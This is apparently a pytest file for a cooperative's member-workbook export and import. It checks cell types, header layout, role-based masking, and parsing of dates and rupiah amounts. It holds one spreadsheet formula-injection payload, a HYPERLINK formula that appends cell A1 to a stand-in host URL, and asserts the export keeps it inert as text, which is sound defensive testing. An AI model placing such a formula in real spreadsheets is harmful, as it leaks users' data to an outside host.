"""The member workbook read back with openpyxl: types, not just strings; and the sheet
reader's handling of real-world files."""

import datetime as dt
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from kamura_desktop.documents import excel
from kamura_desktop.domain.errors import UserError
from kamura_desktop.services import member_io, membership, savings

INJECTION = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'


@pytest.fixture
def exported(book, tmp_path):
    """The book's member plus one whose name and phone would be formulas in Excel."""
    clerk = book.actors["petugas"]
    odd = membership.register_member(book.db, actor=clerk, data=membership.MemberInput(
        name=INJECTION, nik="3217010203900002", sex="L", joined_on=dt.date(2024, 2, 1),
        phone="+62 812 1111 2222", notes="@catatan -1+1")).value.member
    savings.record_deposit(book.db, actor=clerk, member_id=odd.id, kind="pokok", amount=50_000,
                           on_date=dt.date(2024, 2, 1))
    # the treasurer exports: she sees full NIKs (the clerk's export masks them, issue 21)
    path = member_io.export_members_xlsx(book.db, actor=book.actors["bendahara"],
                                         flt=membership.MemberFilter(), path=tmp_path / "anggota.xlsx",
                                         as_of=dt.date(2024, 6, 30))
    wb = load_workbook(path)
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    rows = {r[0].value: {h: c for h, c in zip(header, r, strict=True)}
            for r in ws.iter_rows(min_row=2)}
    return path, wb, ws, header, rows


def test_header_is_styled_frozen_and_filtered(exported):
    path, wb, ws, header, rows = exported
    assert header == [c.header for c in excel.MEMBER_COLUMNS]
    assert ws.title == "Anggota"
    assert ws.freeze_panes == "C2"  # header row and number/name columns stay in view
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}3"
    assert ws["A1"].font.bold and ws["A1"].fill.fgColor.rgb.endswith("12503F")
    widths = {c.header: ws.column_dimensions[ws.cell(1, i).column_letter].width
              for i, c in enumerate(excel.MEMBER_COLUMNS, start=1)}
    assert widths["Nama"] > widths["RT"] and widths["NIK"] >= 18
    assert "Keterangan" in wb.sheetnames
    info = {r[0].value: r[1].value for r in wb["Keterangan"].iter_rows()}
    assert info["Jumlah anggota"] == "2"
    assert info["Saldo per"].date() == dt.date(2024, 6, 30)


def test_cell_types(exported):
    _, _, _, _, rows = exported
    siti = rows["KMR-0001"]
    assert siti["Nama"].value == "Siti Aminah"
    nik = siti["NIK"]
    assert isinstance(nik.value, str) and len(nik.value) == 16 and nik.value.isdigit()
    assert nik.data_type == "s" and nik.number_format == "@"
    assert isinstance(siti["No KK"].value, str) and siti["No KK"].value == "3217010101100007"
    for column, amount in (("Simpanan Pokok", 50_000), ("Simpanan Wajib", 30_000),
                           ("Simpanan Sukarela", 50_000), ("Tunggakan Wajib", 30_000)):
        cell = siti[column]
        assert type(cell.value) is int and cell.value == amount, column
        assert cell.number_format == '#,##0;(#,##0);"-"'  # one rupiah format (issue 18)
    joined = siti["Tanggal Masuk"]
    assert isinstance(joined.value, dt.datetime) and joined.value.date() == dt.date(2024, 1, 15)
    assert joined.number_format == "dd/mm/yyyy"
    assert siti["Tanggal Lahir"].value.date() == dt.date(1985, 3, 5)
    assert siti["RT"].value == "002" and siti["RW"].value == "008"  # leading zeros kept
    assert siti["KTP"].value == "ya" and siti["KK ada"].value == "tidak"
    assert siti["Status"].value == "Aktif"
    assert siti["Tanggal Keluar"].value is None


def test_formula_injection_stays_text(exported):
    path, _, _, _, rows = exported
    odd = rows["KMR-0002"]
    for column, text in (("Nama", INJECTION), ("Telepon", "+62 812 1111 2222"),
                         ("Catatan", "@catatan -1+1")):
        cell = odd[column]
        assert cell.value == text and cell.data_type == "s", column
        assert cell.quotePrefix, column
    # and in the file itself: an inline string, no <f> formula element anywhere
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet


def test_export_is_a_valid_import_file(exported, db_path, tmp_path):
    """Every export header is one the member import recognises."""
    for column in excel.MEMBER_COLUMNS:
        key = member_io.MEMBER_ALIASES.get(member_io._norm(column.header))
        assert key is not None or column.kind == "rupiah", column.header
        if key:
            assert member_io.MEMBER_HEADERS[key][0] == column.header


def test_export_follows_the_filter(book, tmp_path):
    clerk = book.actors["petugas"]
    membership.register_member(book.db, actor=clerk, data=membership.MemberInput(
        name="Ujang Calon", nik="3217010203900002", sex="L", joined_on=dt.date(2024, 5, 1)))
    path = member_io.export_members_xlsx(
        book.db, actor=clerk, flt=membership.MemberFilter(status="applicant"),
        path=tmp_path / "calon.xlsx")
    ws = load_workbook(path).worksheets[0]
    assert [r[1] for r in ws.iter_rows(min_row=2, values_only=True)] == ["Ujang Calon"]
    assert ws.auto_filter.ref.endswith("2")


def test_writer_yields_progress(tmp_path):
    class Row:
        def __init__(self, i):
            self.n, self.name = i, f"=nama {i}"

    columns = [excel.Column("No", "n", "int"), excel.Column("Nama", "name")]
    steps = excel.write_table_workbook(tmp_path / "t.xlsx", columns=columns,
                                       rows=[Row(i) for i in range(1000)], sheet_title="T",
                                       every=100)
    seen = []
    while True:
        try:
            seen.append(next(steps))
        except StopIteration as stop:
            result = stop.value
            break
    assert result == tmp_path / "t.xlsx"
    assert seen[0] == (0, 1000) and seen[-1] == (1000, 1000)
    assert len(seen) >= 10 and all(a <= b for (a, _), (b, _) in zip(seen, seen[1:], strict=False))
    ws = load_workbook(result).worksheets[0]
    assert ws["A2"].value == 0 and ws["B2"].value == "=nama 0" and ws["B2"].data_type == "s"


# ---------------------------------------------------------------- reading

def write_book(path, rows):
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def test_read_sheet_rows_finds_the_header_below_a_title(tmp_path):
    path = write_book(tmp_path / "x.xlsx", [
        ["Daftar anggota KAMURA"], [], ["Nama", "NIK"], ["Siti", 3217014503850001], [],
        [None, "  "], ["Ujang", "3217010203900002"],
    ])
    sheet = excel.read_sheet_rows(path, is_header=lambda texts: "NIK" in texts)
    assert sheet.header_row == 3 and sheet.header[:2] == ("Nama", "NIK")
    assert [(n, v[:2]) for n, v in sheet.rows] == [
        (4, ("Siti", 3217014503850001)), (7, ("Ujang", "3217010203900002"))]


@pytest.mark.parametrize(("name", "content", "code"), [
    ("lama.xls", b"\xd0\xcf\x11\xe0 old excel", "xls"),
    ("data.csv", b"Nama;NIK\n", "csv"),
    ("bukan.xlsx", b"ini hanya teks", "not_xlsx"),
    ("rusak.xlsx", b"PK\x03\x04 terpotong", "not_xlsx"),
])
def test_read_sheet_rows_refuses_what_is_not_xlsx(tmp_path, name, content, code):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(UserError) as err:
        excel.read_sheet_rows(path)
    assert err.value.code == code
    assert name in err.value.message


def test_read_sheet_rows_missing_file_and_missing_header(tmp_path):
    with pytest.raises(UserError, match="tidak ditemukan"):
        excel.read_sheet_rows(tmp_path / "tidak-ada.xlsx")
    path = write_book(tmp_path / "kosong.xlsx", [["a", "b"], [1, 2]])
    with pytest.raises(UserError, match="judul kolom") as err:
        excel.read_sheet_rows(path, is_header=lambda texts: "NIK" in texts)
    assert err.value.code == "no_header"


def test_cell_helpers():
    assert excel.cell_date(dt.datetime(2024, 3, 28, 0, 0)) == dt.date(2024, 3, 28)
    assert excel.cell_date("28/03/2024") == dt.date(2024, 3, 28)
    assert excel.cell_date(" 2024-03-28 ") == dt.date(2024, 3, 28)
    assert excel.cell_date(45379) == dt.date(2024, 3, 28)  # an Excel serial number
    assert excel.cell_date(None) is None and excel.cell_date("  ") is None
    with pytest.raises(UserError):
        excel.cell_date("31/02/2024")
    assert excel.cell_rupiah(125000) == 125_000
    assert excel.cell_rupiah(125000.0) == 125_000
    assert excel.cell_rupiah("Rp125.000") == 125_000
    assert excel.cell_rupiah("") is None
    with pytest.raises(UserError):
        excel.cell_rupiah(12.5)
    with pytest.raises(UserError):
        excel.cell_rupiah(-5)
    for yes in ("ya", "Ada", "1", 1, True, "✓", "V"):
        assert excel.cell_bool(yes) is True, yes
    for no in ("tidak", "Belum", 0, None, "", False, "-"):
        assert excel.cell_bool(no) is False, no
    with pytest.raises(UserError, match="ya"):
        excel.cell_bool("mungkin")
    assert excel.cell_text(3.0) == "3" and excel.cell_text("  a ") == "a"
    assert excel.cell_text(dt.date(2024, 3, 28)) == "28/03/2024"
